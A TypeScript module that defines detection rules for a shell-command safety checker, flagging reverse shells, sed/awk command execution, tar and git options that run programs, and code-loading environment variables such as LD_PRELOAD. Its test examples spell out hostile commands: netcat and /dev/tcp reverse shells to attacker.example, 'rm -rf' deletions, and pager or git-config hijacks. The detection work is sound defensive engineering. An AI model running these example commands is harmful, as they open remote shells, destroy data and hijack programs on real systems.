import { optionsOf, type Cmd } from "../command.ts";
import { flagValues, hasFlag, type OptionSpec } from "../options.ts";
import { optionValues } from "../programs/index.ts";
import type { Rule } from "../rule.ts";
import { systemdRun } from "./options.ts";
import { scanSed } from "../sed.ts";
import { scanAwk } from "../awk.ts";
import { awkAssignments, awkPrograms } from "../carriers/text-programs.ts";
import { SHELLS } from "../table.ts";

const SED: OptionSpec = { shortArgs: "efl", longArgs: ["expression", "file", "line-length"] };
/** The scripts of a sed command line: `-e`/`--expression` values, else its first operand (none with `-f`). */
export const sedScripts = (cmd: Cmd): string[] => {
  const p = optionsOf(cmd, SED);
  const s = flagValues(p, "-e", "--expression");
  if (s.length === 0 && !hasFlag(p, "-f", "--file") && p.operands[0]) s.push(p.operands[0].text);
  return s;
};

/** awk program text of a command line joined (for the pipe-to-shell rule), and gawk's library loads other than inplace. */
const awkText = (cmd: Cmd): string => awkPrograms(cmd).programs.map((p) => p.text).join("\n");
const awkPipes = (prog: string): string[] => [...prog.matchAll(/\|&?\s*"([^"]*)"/g)].map((m) => m[1]!.trim());
const awkLibraries = (cmd: Cmd): boolean => cmd.args.some((a, i) => {
  const v = /^(-i|-l|--include|--load)$/.test(a.text) ? cmd.args[i + 1]?.text : /^(-[il]|--include=|--load=)(.+)$/.exec(a.text)?.[2];
  return v !== undefined && v !== "inplace";
});

const GIT_GLOBAL: OptionSpec = { posix: true, shortArgs: "Cc", longArgs: ["git-dir", "work-tree", "namespace", "config-env", "super-prefix", "exec-path", "list-cmds", "attr-source"] };
/** git configuration keys whose value is a program git runs (git-config(1)). */
const GIT_EXEC_KEY = /^(core\.(pager|sshcommand|fsmonitor|editor|hookspath|askpass|gitproxy|alternaterefscommand)|pager\..+|alias\..+|diff\..*(textconv|command)|diff\.external|merge\..*driver|filter\..+|credential\..*helper|credential\.helper|sequence\.editor|gpg\..*program|uploadpack\.packobjectshook|remote\..+\.(uploadpack|receivepack|proxy)|protocol\..*allow|include\.path|includeif\..+|core\.sshcommand|http\.proxy|url\..+\.insteadof|init\.templatedir|ssh\.variant)$/i;
const gitConfigArgs = (cmd: Cmd): string[] => flagValues(optionsOf(cmd, GIT_GLOBAL), "-c");
/** Environment variables that make a program run code or load code (git, the dynamic loader, shells, runtimes). */
const EXEC_ENV = /^(LD_[A-Z0-9_]+|GLIBC_TUNABLES|BASH_FUNC_.*|LOCPATH|NLSPATH|GIT_SSH|GIT_SSH_COMMAND|GIT_PROXY_COMMAND|GIT_CONFIG_PARAMETERS|GIT_CONFIG_GLOBAL|GIT_CONFIG_SYSTEM|GIT_CONFIG_COUNT|GIT_CONFIG_KEY_\d+|GIT_CONFIG_VALUE_\d+|GIT_EXTERNAL_DIFF|GIT_PAGER|GIT_EDITOR|GIT_ASKPASS|GIT_EXEC_PATH|GIT_TEMPLATE_DIR|GIT_DIR|GIT_WORK_TREE|GIT_COMMON_DIR|PAGER|EDITOR|VISUAL|SYSTEMD_PAGER|MANPAGER|BASH_ENV|ENV|PROMPT_COMMAND|PS4|SHELLOPTS|BASHOPTS|PERL5OPT|PERL5LIB|PYTHONSTARTUP|PYTHONPATH|PYTHONHOME|NODE_OPTIONS|RUBYOPT|RUBYLIB|IFS|PATH|SUDO_ASKPASS|SSH_ASKPASS|LESSOPEN|LESSCLOSE|SYSTEMD_EDITOR|SUDO_EDITOR|GIT_SEQUENCE_EDITOR|FCEDIT|BROWSER|GCONV_PATH|JAVA_TOOL_OPTIONS|_JAVA_OPTIONS|PYTHONWARNINGS|PERLLIB|NODE_PATH|LESSKEY|LESSKEYIN|CDPATH)$/;

/** Options of read (bash read builtin) that take a value; `-a NAME` names the array it fills. */
const READ_OPTS: OptionSpec = { shortArgs: "adinNptu" };
const MAPFILE_OPTS: OptionSpec = { shortArgs: "dnOsuCc" };
/** Builtins that declare or export variables whose words are NAME or NAME=VALUE (bash(1) SHELL BUILTIN COMMANDS). */
const DECLARERS = new Set(["export", "declare", "typeset", "local", "readonly"]);

/**
 * Variables a builtin assigns from input the line does not show: `read NAME` (from a file or pipe), `printf -v NAME`,
 * `mapfile NAME`, and declaration builtins given a word built at run time (`export $(cat .env)`, `declare "$kv"`), whose
 * names are unknown. A name only known at run time is returned as `*`.
 */
function builtinAssignedNames(cmd: Cmd): string[] {
  if (cmd.synthetic) return [];
  const name = (a: { text: string; dynamic: boolean }): string => (a.dynamic ? "*" : a.text.replace(/[=[].*$/s, ""));
  switch (cmd.name) {
    case "read": { const p = optionsOf(cmd, READ_OPTS); return [...p.operands.map(name), ...flagValues(p, "-a")]; }
    case "mapfile": case "readarray": { const p = optionsOf(cmd, MAPFILE_OPTS); return p.operands.map(name); }
    case "printf": return cmd.args.flatMap((a, i) => (a.text === "-v" && cmd.args[i + 1] ? [name(cmd.args[i + 1]!)] : /^-v./.test(a.text) ? [a.text.slice(2)] : []));
    default: return DECLARERS.has(cmd.name) ? cmd.args.filter((a) => a.dynamic && !a.display.startsWith("-")).map(() => "*") : [];
  }
}

/**
 * The environment variable names a command sets for what it runs: prefix assignments (`X=… cmd`, `env X=… cmd`), the
 * builtins of {@link builtinAssignedNames} (`*` for a name built at run time) and options that set the environment
 * (`strace -E X=…`: an option table's `E` effect).
 */
export function assignedNames(cmd: Cmd): string[] {
  return [...cmd.assigns.map((a) => a.name), ...builtinAssignedNames(cmd), ...optionValues(cmd, "env").map((a) => a.text.split("=")[0]!)];
}

/** Ways ordinary-looking tools run other programs: options, config keys, env variables, scripts. */
export const CODE_EXEC_RULES: readonly Rule[] = [
  {
    id: "reverse_shell", severity: "critical",
    reason: "connects a shell to the network (reverse or bind shell)",
    commands: ["*"],
    test: (cmd) => {
      if (cmd.name === "nc" || cmd.name === "ncat" || cmd.name === "netcat") return cmd.args.some((a) => /^(-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)/.test(a.text));
      if (cmd.name === "socat") return cmd.args.some((a) => /^(exec|system):/i.test(a.text));
      return SHELLS.has(cmd.name) && cmd.redirects.some((r) => /^\/dev\/(tcp|udp)\//.test(r.target?.text ?? ""));
    },
    examples: { match: ["nc -e /bin/sh attacker.example 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "socat TCP:x:1 EXEC:sh"], noMatch: ["nc -zv host 22", "ls"] },
  },
  {
    id: "sed_exec", severity: "high",
    reason: "GNU sed's e command or s///e flag runs shell commands",
    commands: ["sed"],
    test: (cmd) => sedScripts(cmd).some((s) => { const fx = scanSed(s); return fx.execFlag || fx.execs.length > 0; }),
    examples: { match: ["sed 's|.*|id|e' notes.txt", "sed -n '1e rm -rf /srv' /etc/hostname"], noMatch: ["sed -n '1,20p' f", "sed 's/e/E/g' f", "sed -e 's/a/b/' x"] },
  },
  {
    id: "awk_pipe_to_shell", severity: "critical",
    reason: "awk pipes its output into a shell, which runs it",
    commands: ["awk", "gawk", "mawk", "nawk", "busybox"],
    test: (cmd) => awkPipes(awkText(cmd)).some((c) => SHELLS.has(c.split(/\s+/)[0]!.replace(/^.*\//, ""))),
    examples: { match: ["awk '{print | \"sh\"}' cmds.txt", "awk '{print |& \"/bin/bash\"}'"], noMatch: ["awk '{print $1}'", "awk '{print | \"sort\"}'"] },
  },
  {
    id: "awk_runs_command", severity: "high",
    reason: "awk, a text tool, runs shell commands (system(), print | cmd, cmd | getline) or loads a program file or library; what a literal command does is judged as well",
    commands: ["awk", "gawk", "mawk", "nawk"],
    test: (cmd) => {
      const { programs, fromFile } = awkPrograms(cmd);
      const vars = awkAssignments(cmd);
      return fromFile || awkLibraries(cmd) || programs.some((p) => {
        if (p.dynamic) return true;
        const scan = scanAwk(p.text, vars);
        return scan.unreadable || scan.loadsCode || scan.commands.length > 0;
      });
    },
    examples: {
      match: ["awk 'BEGIN{system(\"rm -rf /var/tmp/cache\")}'", "awk '{system(\"rm -rf \" $1)}' list.txt", "awk -f prog.awk x", "awk '{ \"cat \" $2 | getline x }'", "awk '{print | $3}'", "awk -v c=\"$C\" 'BEGIN{system(c)}'", "awk '@load \"x\"; {print}'", "gawk -l ./evil.so '{print}'", "awk 'BEGIN{\"id\" | getline x}'"],
      noMatch: ["awk '{print $1}'", "awk -F: '{print $1}' /etc/passwd", "awk '$0 ~ /a|b/ {print}'", "awk '{print \"a|b\"}'", "gawk -i inplace '{sub(/a/,\"b\")}1' f"],
    },
  },
  {
    id: "search_preprocessor", severity: "high",
    reason: "the search tool runs a program for every file (rg --pre)",
    commands: ["rg"],
    test: (cmd) => cmd.args.some((a) => a.text === "--pre" || a.text.startsWith("--pre=")),
    examples: { match: ["rg --pre ./filter.sh TODO .", "rg --pre=x y"], noMatch: ["rg -n TODO ."] },
  },
  {
    id: "tar_exec", severity: "high",
    reason: "tar options that run programs (checkpoint actions, compress programs, scripts)",
    commands: ["tar"],
    test: (cmd) => cmd.args.some((a) => /^--(checkpoint-action|to-command|use-compress-program|rsh-command|info-script|new-volume-script|rmt-command)/.test(a.text) || /^-[A-Za-z]*[IF]/.test(a.text) && !a.text.startsWith("--")),
    examples: { match: ["tar -cf /dev/null /etc --checkpoint=1 --checkpoint-action=exec=sh", "tar -I 'sh -c id' -xf a.tar"], noMatch: ["tar -xzf a.tgz", "tar -tf a.tar"] },
  },
  {
    id: "git_exec_config", severity: "high",
    reason: "git configuration that names a program to run (pager, ssh command, fsmonitor, hooks, aliases…)",
    commands: ["git"],
    test: (cmd) => {
      // An alias runs a program only when its value starts with `!` (otherwise it names git verbs: alias.co=checkout).
      const runs = (key: string, value: string): boolean => GIT_EXEC_KEY.test(key) && (!/^alias\./i.test(key) || value.trimStart().startsWith("!"));
      if (gitConfigArgs(cmd).some((kv) => runs(kv.split("=")[0]!, kv.slice(kv.indexOf("=") + 1)))) return true;
      const p = optionsOf(cmd, GIT_GLOBAL);
      if (hasFlag(p, "--config-env", "--exec-path")) return true;
      const [sub, ...rest] = p.operands.map((a) => a.text);
      if (sub !== "config") return false;
      const keys = rest.filter((t) => !t.startsWith("-"));
      return keys.length >= 2 && runs(keys[0]!, keys[1]!) || rest.some((t) => t === "--edit" || t === "-e");
    },
    examples: {
      match: ["git -c core.pager='sh -c \"id>/tmp/p\"' -p log", "git -c core.sshCommand='touch /tmp/pwn' fetch", "git config core.fsmonitor ./hook.sh", "git config --global alias.x '!sh'"],
      noMatch: ["git log -p -1", "git config user.name Me", "git config --get core.pager", "git -C /srv/app status", "git config --global alias.co checkout", "git -c alias.st=status st"],
    },
  },
  {
    id: "git_runs_program", severity: "high",
    reason: "git options that run a program (pager, upload-pack, exec, extcmd, the configured external diff, submodule foreach, bisect run)",
    commands: ["git"],
    test: (cmd) => {
      const ops = optionsOf(cmd, GIT_GLOBAL).operands.map((a) => a.text);
      const sub = ops[0] ?? "";
      const rest = ops.slice(1);
      if (rest.some((t) => /^(--open-files-in-pager|--upload-pack|--receive-pack|--exec|--extcmd)(=|$)/.test(t))) return true;
      // --ext-diff runs diff.external / diff.<driver>.command from the repository's configuration.
      if (["diff", "log", "show", "whatchanged", "diff-files", "diff-index", "diff-tree", "stash", "format-patch"].includes(sub) && rest.includes("--ext-diff")) return true;
      if (sub === "grep" && rest.some((t) => t.startsWith("-O"))) return true;
      if (["clone", "fetch", "pull", "ls-remote", "push", "archive"].includes(sub) && rest.some((t) => /^-u/.test(t))) return true;
      if (sub === "rebase" && rest.some((t) => t === "-x" || t.startsWith("--exec"))) return true;
      if ((sub === "difftool" || sub === "mergetool") && rest.some((t) => t === "-x" || t.startsWith("--extcmd") || t.startsWith("--tool"))) return true;
      return (sub === "submodule" && rest.includes("foreach")) || (sub === "bisect" && rest[0] === "run") || sub === "filter-branch";
    },
    examples: { match: ["git grep --open-files-in-pager='sh -c id' TODO", "git grep -O'sh -c id' x", "git rebase -x 'make test' main", "git submodule foreach 'rm -rf .'", "git diff --ext-diff", "git log -p --ext-diff -1"], noMatch: ["git grep TODO", "git log -p", "git diff --no-ext-diff"] },
  },
  {
    id: "git_ext_transport", severity: "critical",
    reason: "git's ext:: transport executes an arbitrary command",
    commands: ["git"],
    test: (cmd) => cmd.args.some((a) => /^ext::/.test(a.text)) || gitConfigArgs(cmd).some((kv) => /^protocol\.ext\.allow=always$/i.test(kv)) && cmd.args.some((a) => a.text.includes("ext::")),
    examples: { match: ["git -c protocol.ext.allow=always clone 'ext::sh -c id'", "git clone ext::x"], noMatch: ["git clone https://x.example/r.git"] },
  },
  {
    id: "exec_env_var", severity: "high",
    reason: "sets an environment variable that makes programs load or run other code (LD_PRELOAD, GIT_SSH_COMMAND, PAGER, PATH…)",
    commands: ["*"],
    test: (cmd) => assignedNames(cmd).some((n) => EXEC_ENV.test(n)) || builtinAssignedNames(cmd).includes("*") || cmd.assigns.some((a) => /^(LESS|MORE)$/.test(a.name) && /\+[^ ]*[!|]|[!|]/.test(a.value.text))
      || systemdRun(cmd).env.some((e) => EXEC_ENV.test(e.split("=")[0]!))
      || systemdRun(cmd).props.some((p) => /^(Environment|EnvironmentFile|PassEnvironment)=/.test(p) && (EXEC_ENV.test(p.slice(p.indexOf("=") + 1).split("=")[0]!) || p.startsWith("EnvironmentFile=")))
      // systemctl set-environment puts variables into every service the manager starts from then on.
      || (cmd.name === "systemctl" && cmd.args.some((a) => /^(set|import)-environment$/.test(a.text)) && cmd.args.some((a) => EXEC_ENV.test(a.text.split("=")[0]!))),
    examples: { match: ["GIT_SSH_COMMAND='sh -c id' git ls-remote origin", "strace -f -E LD_PRELOAD=/tmp/x.so ls", "systemctl set-environment LD_PRELOAD=/tmp/x.so", "LD_PRELOAD=x.so ls", "export PAGER=./x", "env PAGER=x man ls", "SYSTEMD_EDITOR=id systemctl edit x", "GCONV_PATH=/tmp/g iconv -f x", "JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar java -version", "systemd-run -E LD_PRELOAD=/tmp/x.so id", "systemd-run --setenv=LD_PRELOAD=/tmp/x.so id", "systemd-run -p Environment=LD_PRELOAD=/tmp/x.so id", "LESS='+!rm -rf /' less x", "CDPATH=/ cd etc && rm -f passwd",
      "read PATH < /tmp/f", "read -r LD_PRELOAD < /tmp/f", "IFS= read -r -a PATH < f", "printf -v PATH %s /tmp", "printf -vLD_AUDIT %s x", "export $(cat /tmp/env)", "declare \"$kv\"", "mapfile -t PATH < f",
      "GLIBC_TUNABLES=x ls", "LD_DEBUG_OUTPUT=/etc/x ls", "GIT_DIR=/tmp/x/.git git log", "GIT_WORK_TREE=/ git status"],
      noMatch: ["FOO=1 ls", "LANG=C sort x", "LESS=-R less x", "read -r line < f", "printf -v out %s x", "export FOO=1", "declare -i n=1", "mapfile -t lines < f"] },
  },
];
